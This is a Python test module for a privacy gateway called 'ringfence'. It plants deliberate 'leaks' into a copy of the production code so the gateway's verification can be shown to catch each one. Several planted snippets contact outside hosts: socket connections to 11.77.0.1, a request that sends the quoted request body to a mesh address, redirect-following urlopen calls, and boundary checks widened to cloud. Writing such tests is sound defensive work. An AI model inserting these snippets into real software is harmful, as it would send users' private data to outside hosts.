"""Leaks, one for each way of the proof: what could be broken in the production code, and the way that must find it.

An edit replaces a text that stands in a file exactly once, so that a leak cannot quietly stop being one.
"""

from __future__ import annotations

import shutil
from dataclasses import dataclass
from pathlib import Path

import ringfence

CALL_HOME = '__import__("socket").create_connection(("11.77.0.1", 80), 1).close()'
"""A packet to where nobody has any business."""
FETCH_IN_MESH = (
    'asyncio.ensure_future(self.pool.fetch(Endpoint("100.64.1.2", 8000, type(endpoint.boundary).MESH), '
    '"/v1/models?q=" + __import__("urllib.parse").parse.quote(str(body))))'
)
"""A text in the address of what looks like a look at one's own engine."""
SEND_AT_THE_END = '__import__("socket").socket(__import__("socket").AF_INET, 2).sendto(b"bye", ("11.77.0.1", 9))'
FOLLOW = (
    "    def on_header(self, name: bytes, value: bytes) -> None:\n"
    '        if name.lower() == b"location":\n'
    '            fetch = __import__("urllib.request").request.urlopen\n'
    "            asyncio.get_running_loop().run_in_executor(None, fetch, value.decode())\n\n"
)


@dataclass(frozen=True)
class Edit:
    file: str
    before: str
    after: str


@dataclass(frozen=True)
class Leak:
    """`way` must find it under `profile`."""

    way: str
    profile: str
    edits: tuple[Edit, ...]


def _leak(way: str, profile: str, *edits: tuple[str, str, str]) -> Leak:
    return Leak(way, profile, tuple(Edit(*edit) for edit in edits))


def _then(file: str, lines: str, more: str) -> tuple[str, str, str]:
    """`more` behind these lines."""
    return file, lines, lines + more


TIGHTEN = "    return boundary if boundary <= signals.tightest else signals.tightest\n"
RULES, PIPELINE, POOL = "routing/rules.py", "gateway/pipeline.py", "egress/pool.py"
DECIDING = "gateway/deciding.py"
STANDING, CALLS, INSTANCES = "routing/standing.py", "egress/calls.py", "runtime/instances.py"
END_OF_ANSWER = "    def on_message_complete(self) -> None:\n        if self._whole"


def _widened_for(condition: str) -> tuple[str, str, str]:
    return RULES, TIGHTEN, f"    if {condition}:\n        return signals.tightest\n{TIGHTEN}"


FURTHER_CHAIN = (
    (
        PIPELINE,
        "            chain = self.quotas.open_to(",
        "            decision.allowed, every = Boundary.CLOUD, self.settings.catalog.models.values()\n"
        "            rented = tuple(t for model in every for t in model.targets if t.provider)\n"
        "            decision.chain = type(decision.chain)('', decision.chain.targets[:1] + rented)\n"
        "            chain = self.quotas.open_to(",
    ),
)
"""When the first target fails, rented ones are tried."""

TRAIN, WITHIN = "gateway/thinking/train.py", "gateway/within.py"
OTHER_KEY = (
    WITHIN,
    "            self._next_id(), call.key, ",
    "            self._next_id(), type(call.key)(call.key.id, '', 'prove-open'), ",
)
"""What is asked for a call's sake is asked under a key of its own, of another profile."""
WIDER_THOUGHT = (WITHIN, "at_most=self._at_most, ", "at_most=Boundary.CLOUD, ")

LEAKS = (
    _leak("cloud-model", "private", (RULES, TIGHTEN, "    return signals.tightest\n")),
    _leak("cloud-stream", "private", _widened_for("signals.stream")),
    _leak("completions", "private", _widened_for("signals.ability == 'completions'")),
    _leak("embeddings", "private", _widened_for("signals.ability == 'embeddings'")),
    _leak(
        "messages", "private",
        (
            DECIDING, "standing(self.house, call.key.profile, ",
            "standing(self.house, 'prove-open' if call.spoken == 'messages' else call.key.profile, ",
        ),
    ),
    _leak(
        "count-tokens", "private",
        (
            "gateway/counting.py", "    held = Held(pipeline, call)\n",
            f"    held = Held(pipeline, call)\n    {CALL_HOME}\n",
        ),
    ),
    _leak(
        "ollama-chat", "private",
        (
            "gateway/read_call.py", "        call_id, request.identity, dialect, ",
            "        call_id, request.identity if route.name != 'ollama_chat' else "
            "type(request.identity)(request.identity.id, request.identity.name, 'prove-open'), dialect, ",
        ),
    ),
    _leak(
        "ollama-generate", "private",
        _then("gateway/dialects/ollama_generate.py", "        asked = begun(body)\n", f"        {CALL_HOME}\n"),
    ),
    _leak(
        "ollama-embed", "private",
        _then(
            "gateway/dialects/ollama_embed.py", "        check_keep_alive(body, is_bare=False)\n",
            f"        {CALL_HOME}\n",
        ),
    ),
    _leak(
        "ollama-pull", "private",
        _then(
            "gateway/ollama_pages.py", "        path, names = request.path, self._names()\n", f"        {CALL_HOME}\n",
        ),
    ),
    _leak(
        "rerank", "private",
        _then(
            "gateway/dialects/rerank.py", "    def check(self, body: Body) -> bool:\n", f"        {CALL_HOME}\n",
        ),
    ),
    _leak(
        "responses", "private",
        (
            "gateway/dialects/responses.py", "        call.at_most = min(",
            "        call.key = type(call.key)(call.key.id, call.key.name, 'prove-open')\n"
            "        call.at_most = min(",
        ),
    ),
    _leak(
        "compact", "private",
        (
            "gateway/dialects/responses_compact.py", "        call.at_most = min(",
            "        call.key = type(call.key)(call.key.id, call.key.name, 'prove-open')\n"
            "        call.at_most = min(",
        ),
    ),
    _leak(
        "stored-response", "personal",
        (
            "gateway/dialects/responses.py", "        call.at_most = min(call.at_most, reach_of(call.asked or {}))\n",
            "",
        ),
    ),
    _leak(
        "cached-answer", "private",
        _then(
            "gateway/answers.py", '        given = Given(self._path, call, "cached")\n', f"        {CALL_HOME}\n",
        ),
    ),
    _leak(
        "every-model", "private",
        (
            RULES, "    model, reason = _asked(rules, catalog, name, profile)\n",
            "    model, reason = _asked(rules, catalog, name, profile)\n"
            "    if name in model.aliases:\n        allowed = Boundary.CLOUD\n",
        ),
    ),
    _leak(
        "auto", "private",
        (
            RULES, "        targets = dict.fromkeys(target for model in found for target in model.targets)\n",
            "        every = [target for model in catalog.models.values() for target in model.targets]\n"
            "        targets = dict.fromkeys(sorted(every, key=lambda target: -target.boundary))\n",
        ),
        (
            RULES, "    model, reason = _asked(rules, catalog, name, profile)\n",
            "    model, reason = _asked(rules, catalog, name, profile)\n"
            "    if name == AUTO:\n        allowed = Boundary.CLOUD\n",
        ),
    ),
    _leak(
        "mesh-model", "private",
        ("core/boundary.py", "    return Boundary.MESH if _in_any(", "    return Boundary.HOST if _in_any("),
    ),
    _leak(
        "agent-header", "private",
        (STANDING, "min(inner.boundary, outer.boundary)", "inner.boundary"),
    ),
    _leak("profile-header", "private", (STANDING, "        profile = _within(profile, other)", "        return other")),
    _leak(
        "label", "personal",
        (DECIDING, 'tuple(label.strip() for label in call.labels.split(",")) if call.labels else ()', "()"),
    ),
    _leak(
        "secret", "personal",
        (
            DECIDING, "        elif reading.tightest < tools.reach:\n",
            "        elif not labels and False:\n",
        ),
    ),
    _leak(
        "long-secret", "personal",
        (
            DECIDING, "            kept = await self.tightest_in_turns(call, settings)\n",
            "            kept = Kept(Boundary.CLOUD)\n",
        ),
    ),
    _leak("tool", "private", _widened_for("signals.tools")),
    _leak(
        "unlisted-tool", "personal",
        (STANDING, 'return Kept(Boundary.HOST, "a tool that is not listed under tools")', "continue"),
    ),
    _leak(
        "remote-media", "private",
        (
            "gateway/dialects/media.py", '    if not url.startswith("data:"):\n        raise remote(where)\n',
            '    if not url.startswith("data:"):\n'
            '        __import__("urllib.request").request.urlopen(url, timeout=2)\n',
        ),
    ),
    _leak(
        "steering-fields", "private",
        (
            "gateway/dialects/dialect.py", "            if name in REFUSED_FIELDS:\n",
            "            if name in REFUSED_FIELDS:\n"
            '                __import__("urllib.request").request.urlopen(str(body[name]), timeout=2)\n',
        ),
    ),
    _leak(
        "as-proxy", "private",
        (
            "gateway/head.py", '    if not target.startswith(b"/") or method == b"CONNECT":\n',
            '    if not target.startswith(b"/") or method == b"CONNECT":\n'
            '        __import__("urllib.request").request.urlopen(target.decode(), timeout=2)\n',
        ),
    ),
    _leak("picture", "private", _widened_for("signals.media")),
    _leak("speech", "private", _widened_for("signals.ability == 'speech'")),
    _leak("drawing", "private", _widened_for("signals.ability == 'images'")),
    _leak(
        "sound", "personal",
        (
            DECIDING, "    media = SOUND if is_sound else call.media\n",
            "    media, is_sound = call.media, False\n",
        ),
    ),
    _leak(
        "explain", "private",
        _then(
            "runtime/overview.py", '        key = self._asker(asker)\n', f"        {CALL_HOME}\n",
        ),
    ),
    _leak(
        "decisions", "private",
        _then(
            "gateway/decisions.py", "        call = read_call(request, ASKING, call_id)\n", f"        {CALL_HOME}\n",
        ),
    ),
    _leak(
        "tight-permit", "private",
        ("egress/caps.py", "    if not allowed.permits(Boundary.CLOUD):\n", "    if False:\n"),
        (CALLS, "issue(claim.call, claim.allowed, line", "issue(claim.call, line.endpoint.boundary, line"),
    ),
    _leak(
        "other-host", "private",
        (
            CALLS, "        if cloud is None:\n",
            "        if cloud is None:\n            await asyncio.open_connection(claim.provider, 443)\n",
        ),
    ),
    _leak(
        "roving-engine", "private",
        ("engines/ollama.py", "reaches_cloud=has_cloud or _is_remote(entry),", "reaches_cloud=False,"),
    ),
    _leak(
        "renamed-engine", "private",
        (INSTANCES, "return Endpoint(at.address, url.port,", "return Endpoint(url.host, url.port,"),
        (POOL, "        if boundary_of(endpoint.address, self.mesh) > endpoint.boundary:\n", "        if False:\n"),
    ),
    _leak(
        "failing-embeddings", "private",
        _then(
            PIPELINE, "        self.health.record(target, reason, failed.later_s)\n",
            f"        if call.dialect.name == 'embeddings':\n            {CALL_HOME}\n",
        ),
    ),
    _leak("redirect", "private", (POOL, END_OF_ANSWER, FOLLOW + END_OF_ANSWER)),
    _leak("probe-redirect", "private", (POOL, END_OF_ANSWER, FOLLOW + END_OF_ANSWER)),
    _leak(
        "broken-stream", "private",
        _then(
            "gateway/reply.py", "    def _break(self, outcome: str, failure: Failure) -> None:\n",
            f"        {CALL_HOME}\n",
        ),
    ),
    _leak(
        "parked", "private",
        (
            "gateway/parked_pending.py", "row.id, key, dialect, row.model, ",
            "row.id, type(key)(key.id, key.name, 'prove-open'), dialect, 'prove-cloud', ",
        ),
        ("gateway/parked_pending.py", "labels, at_most=Boundary(row.boundary),", "labels, at_most=Boundary.CLOUD,"),
    ),
    _leak(
        "thinking-model", "private", OTHER_KEY, WIDER_THOUGHT,
        (TRAIN, 'body = body | {"model": model}', "body = body | {'model': (model := 'prove-cloud')}"),
    ),
    _leak("thought", "private", OTHER_KEY, WIDER_THOUGHT),
    _leak("thought-of-secret", "personal", WIDER_THOUGHT),
    _leak(
        "batch", "private",
        (
            "gateway/batches/line.py", "asked.body, asked.identity = orjson.dumps(line.body), key\n",
            "asked.body = orjson.dumps(line.body)\n"
            "    asked.identity = type(key)(key.id, key.name, 'prove-open')\n",
        ),
        ("gateway/batches/line.py", "call.at_most = min(call.at_most, reach)", "call.at_most = Boundary.CLOUD"),
    ),
    _leak(
        "provider-batch", "private",
        (
            "gateway/batches/rented_line.py", "call_of(line, batch, key, route, call_id, reach)",
            "call_of(line, batch, type(key)(key.id, key.name, 'prove-open'), route, call_id, Boundary.CLOUD)",
        ),
    ),
    _leak(
        "background-response", "private",
        (
            "gateway/responses_background.py", "        pipeline = self._pipeline\n        if pipeline.decided(call)",
            "        pipeline = self._pipeline\n"
            "        call.key = type(call.key)(call.key.id, call.key.name, 'prove-open')\n"
            "        if pipeline.decided(call)",
        ),
        ("gateway/responses_background.py", "        if voice.keep is None:\n", "        if False:\n"),
    ),
    _leak("retry", "private", *FURTHER_CHAIN),
    _leak("fallback", "private", *FURTHER_CHAIN),
    _leak(
        "delegates", "conductor",
        (STANDING, "            return other\n", "            return replace(other, boundary=Boundary.CLOUD)\n"),
    ),
    _leak(
        "auto", "private",
        (
            "gateway/relay.py", "        line = self.pool.take(endpoint)\n        while True:\n",
            f"        {FETCH_IN_MESH}\n        line = self.pool.take(endpoint)\n        while True:\n",
        ),
    ),
    _leak(
        "the-end", "private",
        _then("runtime/parts.py", "        await self.server.drain(drain_s)\n", f"        {SEND_AT_THE_END}\n"),
    ),
    _leak(
        "afterwards", "private",
        (
            PIPELINE, "        now = monotonic()\n        started_at,",
            f"        asyncio.get_running_loop().call_later(0.9, lambda: {CALL_HOME})\n"
            "        now = monotonic()\n        started_at,",
        ),
    ),
)  # fmt: skip


def plant(leak: Leak, folder: Path) -> Path:
    """A copy of the program with the leak in it; the folder to put before others on Python's path."""
    source = folder / "ringfence"
    shutil.copytree(
        Path(ringfence.__file__).parent, source
    )  # with what is compiled: only what is edited is compiled anew
    for edit in leak.edits:
        path = source / edit.file
        text = path.read_text(encoding="utf-8")
        assert text.count(edit.before) == 1, f"{edit.file} has {text.count(edit.before)} times: {edit.before}"
        path.write_text(text.replace(edit.before, edit.after), encoding="utf-8")
    return folder
